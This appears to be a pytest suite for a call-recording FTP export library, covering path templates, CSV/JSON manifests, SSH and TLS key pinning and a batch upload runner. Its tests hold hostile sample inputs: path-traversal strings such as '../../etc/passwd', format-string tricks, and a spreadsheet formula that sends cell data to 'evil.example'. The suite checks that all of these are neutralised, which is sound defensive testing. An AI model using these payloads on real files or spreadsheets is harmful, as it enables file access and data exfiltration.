"""call_recording_ftp's plain-Python parts that need no server: names, manifests, keys, runs."""

import csv
import datetime
import hashlib
import io
import json

import pytest
from call_recording_ftp_lib import manifest, retry, template
from call_recording_ftp_lib.errors import TransferError, from_os_error
from call_recording_ftp_lib.ftp import parse_cert_fingerprints
from call_recording_ftp_lib.hostkeys import parse_host_keys
from call_recording_ftp_lib.runner import ExportRunner, ExportSink, FileToSend
from call_recording_ftp_lib.transport import RemoteStat, TargetConfig, Transport
from call_recording_ftp_lib.upload import UploadResult

ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG2D+AWYEyS5oGOXunYM55bGAxcPylZaD8XRmfV4/JJ7"
#: what ``ssh-keygen -l`` printed for that key
ED25519_FINGERPRINT = "SHA256:YfSuE/30vy+BnyQC3PZH92ocqDRZo36+GQ+wgXMqeio"


# -- template -------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad",
    [
        "../{reference}.wav",
        "{year}/../../etc/{reference}",
        "/abs/{reference}.wav",
        "a\\b\\{reference}.wav",
        "{reference}/",
        "{year}/{month}.wav",  # no reference: files would overwrite each other
        "{password}/{reference}",
        "{reference.__class__}",
        "{reference!r}",
        "{reference:>10}",
        "{reference",
        "",
    ],
)
def test_template_refused(bad):
    with pytest.raises(TransferError) as info:
        template.validate(bad)
    assert info.value.kind == "config"


def test_template_values_cannot_escape():
    values = template.values_for(
        {
            "start": datetime.datetime(2026, 3, 4, 5, 6),
            "reference": "../../etc/passwd",
            "direction": "inbound",
            "number": "+36/../301234567",
            "customer": "../..",
            "ext": "wav",
        }
    )
    path = template.render(template.DEFAULT_TEMPLATE + "/{customer}", values, "/archive")
    assert path.startswith("/archive/2026/03/04/")
    assert ".." not in path.split("/")
    assert path.count("/") == 6


def test_template_renders_example():
    values = template.values_for(
        {
            "start": datetime.datetime(2026, 11, 28, 9, 0),
            "reference": "CR/2026/0001",
            "direction": "outbound",
            "number": "+36301234567",
            "ext": "mp3",
        }
    )
    assert (
        template.render("{year}/{month}/{day}/{reference}_{direction}_{number}.mp3", values, "")
        == "2026/11/28/CR-2026-0001_outbound_36301234567.mp3"
    )
    with pytest.raises(TransferError):
        template.render("{reference}", values, "base/../up")


def test_template_local_time_zone_and_new_placeholders():
    call = {
        # 23:30 UTC on 31 December is already the new year in Budapest
        "start": datetime.datetime(2026, 12, 31, 23, 30, 15),
        "reference": "CR/2026/000123",
        "customer": "Tóth és Társa Kft.",
        "provider_call_id": "CA1234/abc:9",
        "line_name": "Ügyfélszolgálat / Hotline",
        "ext": "wav",
    }
    tpl = "{year}/{date}/{customer}/{time}_{line_name}_{provider_call_id}_{reference}.{ext}"
    assert template.render(tpl, template.values_for(call, "Europe/Budapest"), "") == (
        "2027/2027-01-01/Tóth_és_Társa_Kft/00-30-15_Ügyfélszolgálat-Hotline_CA1234-abc-9"
        "_CR-2026-000123.wav"
    )
    assert template.render("{date}_{reference}", template.values_for(call), "") == (
        "2026-12-31_CR-2026-000123"
    )
    with pytest.raises(TransferError):
        template.values_for(call, "Mars/Olympus")


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("Tóth Gábor", "Tóth_Gábor"),
        ("CR/2026/000123", "CR-2026-000123"),
        ("Support / Hotline", "Support-Hotline"),
        ("x..y", "x.y"),
        (".hidden", "hidden"),
        ("a\x00b\u202ec", "a-b-c"),
        ("", "none"),
        (None, "none"),
    ],
)
def test_values_stay_readable(value, safe):
    assert template.safe_value(value) == safe


# -- manifest ----------------------------------------------------------------------


def test_manifest_and_retry():
    entries = [{"reference": "CR1", "size": 3, "sha256": "ab", "remote_path": "x/CR1.wav"}]
    payload = json.loads(manifest.manifest_json({"name": "run-1"}, entries))
    assert payload["files"][0]["sha256"] == "ab"
    assert manifest.manifest_csv(entries).decode().splitlines()[1].startswith("CR1,")
    assert manifest.manifest_paths("base/manifests", "run-1") == (
        "base/manifests/run-1.json",
        "base/manifests/run-1.csv",
    )
    calls = []

    def flaky():
        calls.append(1)
        if len(calls) < 3:
            raise TransferError("connection", "refused")
        return "ok"

    assert retry.with_retries(flaky, tries=3, sleep=lambda s: None) == "ok"
    with pytest.raises(TransferError):
        retry.with_retries(
            lambda: (_ for _ in ()).throw(TransferError("auth", "no")), sleep=lambda s: None
        )


def test_manifest_csv_cells_never_start_a_formula():
    evil = {
        "reference": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "number": "+36301234567",
        "agent": "@SUM(1+1)",
        "company": "-2+3",
        "line": "\tcmd",
        "state": "\rx",
        "size": 12,
    }
    rows = list(csv.DictReader(io.StringIO(manifest.manifest_csv([evil]).decode())))
    for column in ("reference", "agent", "company", "line", "state"):
        assert rows[0][column].startswith("'"), column
        assert rows[0][column][1:] == evil[column]
    # a phone number is a number, never a formula: kept readable (lib/safe.py)
    assert rows[0]["number"] == "+36301234567"
    assert rows[0]["size"] == "12"
    # the JSON keeps the values as they are
    assert json.loads(manifest.manifest_json({}, [evil]))["files"][0]["number"] == "+36301234567"


# -- pins -------------------------------------------------------------------------


def test_host_keys_parsed_from_what_administrators_paste():
    pins = parse_host_keys(
        "# 127.0.0.1:22 SSH-2.0-OpenSSH_9.2p1 Debian\n"
        f"[127.0.0.1]:2222 {ED25519}\n"
        f"{ED25519} root@server\n"  # the same key again, from a .pub file
        "256 SHA256:yL5CDRr7NSynoeVuEUtQTn/X74RE4aF01dOWWo6meAE root@server (ECDSA)\n"
    )
    assert pins.fingerprints == [
        ED25519_FINGERPRINT,
        "SHA256:yL5CDRr7NSynoeVuEUtQTn/X74RE4aF01dOWWo6meAE",
    ]
    assert pins.known_types == ["ssh-ed25519"]
    assert not pins.all_typed
    assert pins.algorithms(["ssh-ed25519", "rsa-sha2-512"])[0] == "ssh-ed25519"
    assert parse_host_keys("").fingerprints == []
    for bad in ("ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAABAQ", "SHA256:tooshort", "hello"):
        with pytest.raises(TransferError):
            parse_host_keys(bad)


def test_rsa_key_asks_for_rsa_signatures_first():
    rsa = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDB"  # type header only: a blob naming ssh-rsa
    pins = parse_host_keys(rsa)
    assert pins.algorithms(["ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256"]) == [
        "rsa-sha2-512",
        "rsa-sha2-256",
        "ssh-ed25519",
    ]
    assert pins.worth_trying("rsa-sha2-256")
    assert not pins.worth_trying("ssh-ed25519")


def test_certificate_fingerprints():
    digest = hashlib.sha256(b"cert").hexdigest()
    pretty = ":".join(digest[i : i + 2] for i in range(0, 64, 2)).upper()
    assert parse_cert_fingerprints(f"sha256 Fingerprint={pretty}") == [digest]
    assert parse_cert_fingerprints(f"{digest}, {pretty}") == [digest, digest]
    with pytest.raises(TransferError):
        parse_cert_fingerprints("AB:CD")


def test_safe_defaults_and_clear_reasons():
    assert TargetConfig("ftps", "example.com").verify_tls is True
    assert TargetConfig("ftps_implicit", "example.com").port == 990
    for exc in (EOFError(), ConnectionResetError(), BrokenPipeError()):
        error = from_os_error(exc, "uploading x")
        assert error.kind == "dropped"
        assert error.message == "uploading x: the server closed the connection"


# -- a run, with a list for a sink ------------------------------------------------


class MemoryTransport(Transport):
    """A server in a dict; fails the files whose name says so."""

    def __init__(self, files, fail=()):
        super().__init__(TargetConfig("ftp", "memory"))
        self.files = files
        self.fail = fail
        self.closed = False

    def connect(self):
        return None

    def close(self):
        self.closed = True

    def upload(self, stream, remote_path):
        for word, kind in self.fail:
            if word in remote_path:
                raise TransferError(kind, f"{remote_path}: {kind}")
        self.files[remote_path] = stream.read()

    def stat(self, remote_path):
        data = self.files.get(remote_path)
        return None if data is None else RemoteStat(len(data))

    def rename(self, source, destination):
        self.files[destination] = self.files.pop(source)

    def delete(self, remote_path):
        self.files.pop(remote_path, None)


class ListSink(ExportSink):
    def __init__(self, items, deletions=()):
        self.waiting = list(items)
        self.done, self.errors, self.log, self.manifests = {}, {}, [], []
        self._deletions = list(deletions)
        self.gone = []

    def next_batch(self, limit):
        batch, self.waiting = self.waiting[:limit], self.waiting[limit:]
        return batch

    def sent(self, item, result):
        self.done[item.key] = result

    def failed(self, item, error):
        self.errors[item.key] = error

    def manifest_written(self, paths, keys=()):
        self.manifests += paths
        self.listed = {**getattr(self, "listed", {}), **dict.fromkeys(keys, paths[0])}

    def manifest_rewrites(self):
        return getattr(self, "rewrites", [])

    def deletions(self):
        return self._deletions

    def deleted(self, key):
        self.gone.append(key)

    def stopped(self, error):
        self.log.append(f"stopped: {error.kind}")


def _item(key, name):
    data = f"recording {key}".encode()
    return FileToSend(
        key=key,
        remote_path=f"rec/{name}.wav",
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
        opener=lambda data=data: io.BytesIO(data),
        manifest={"reference": name, "number": "+3630"},
    )


def test_runner_sends_in_batches_with_manifests_and_deletions():
    files = {"rec/old.wav": b"old"}
    sink = ListSink([_item(n, f"call{n}") for n in range(7)], deletions=[("x", "rec/old.wav")])
    runner = ExportRunner(
        lambda: MemoryTransport(files), sink, run_name="run", manifest_folder="m", batch_size=3
    )
    report = runner.run()
    assert report.sent == 7 and report.failed == 0 and not report.stopped
    assert sorted(sink.done) == list(range(7))
    assert isinstance(sink.done[0], UploadResult)
    assert sorted(sink.manifests) == [
        f"m/run-00{n}.{ext}" for n in (1, 2, 3) for ext in ("csv", "json")
    ]
    rows = files["m/run-001.csv"].decode().splitlines()
    assert rows[1].startswith("call0,") and ",+3630," in rows[1]
    assert "rec/old.wav" not in files and sink.gone == ["x"]
    assert not [name for name in files if name.endswith(".part")]


def test_runner_stops_when_a_connection_breaks_and_keeps_the_rest_waiting():
    files = {}
    sink = ListSink([_item(0, "a"), _item(1, "drop"), *(_item(n, f"c{n}") for n in range(2, 6))])

    def connect():
        return MemoryTransport(files, fail=[("drop", "dropped")])

    report = ExportRunner(connect, sink, run_name="r", manifest_folder="m", uploads=1).run()
    assert report.stopped
    assert sink.log == ["stopped: dropped"]
    assert sink.errors[1].kind == "dropped"
    assert 0 in sink.done
    # never tried: left waiting for the next run, neither sent nor failed
    untouched = set(range(2, 6)) - set(sink.done) - set(sink.errors)
    assert untouched


def test_runner_gives_up_after_failures_in_a_row():
    sink = ListSink([_item(n, f"bad{n}") for n in range(9)])

    def connect():
        return MemoryTransport({}, fail=[("bad", "permission")])

    report = ExportRunner(connect, sink, run_name="r", manifest_folder="m", uploads=1).run()
    assert report.stopped
    assert 5 <= len(sink.errors) < 9
    assert sink.log == ["stopped: permission"]


def test_runner_without_a_connection_reports_it():
    def refused():
        raise TransferError("connection", "refused")

    sink = ListSink([_item(0, "a")])
    report = ExportRunner(refused, sink, run_name="r", manifest_folder="m").run()
    assert report.connection_error.kind == "connection"
    assert sink.waiting and not sink.done


def test_manifests_list_their_files_and_are_written_again_after_a_deletion():
    files = {}
    sink = ListSink([_item(0, "keep"), _item(1, "gone")])
    runner = ExportRunner(lambda: MemoryTransport(files), sink, run_name="r", manifest_folder="m")
    runner.run()
    assert sink.listed == {0: "m/r-001.json", 1: "m/r-001.json"}
    # the next run deletes "gone" and writes its manifest again without its number
    entries = [
        {"reference": "keep", "number": "+3630", "remote_path": "rec/keep.wav"},
        manifest.redacted(
            {"reference": "gone", "number": "+3630", "remote_path": "rec/+3630.wav"}, "purged"
        ),
    ]
    sink = ListSink([], deletions=[(1, "rec/gone.wav")])
    sink.rewrites = [
        ("m/r-001.json", manifest.manifest_json({"name": "r-001"}, entries)),
        ("m/r-001.csv", manifest.manifest_csv(entries)),
    ]
    ExportRunner(lambda: MemoryTransport(files), sink, run_name="r2", manifest_folder="m").run()
    assert "rec/gone.wav" not in files and sink.gone == [1]
    rows = json.loads(files["m/r-001.json"])["files"]
    assert rows[0]["number"] == "+3630"
    assert rows[1] == {
        **dict.fromkeys(manifest.COLUMNS),
        "reference": "gone",
        "number": "",
        "remote_path": "",
        "removed": "purged",
    }
    assert "+3630.wav" not in files["m/r-001.csv"].decode()
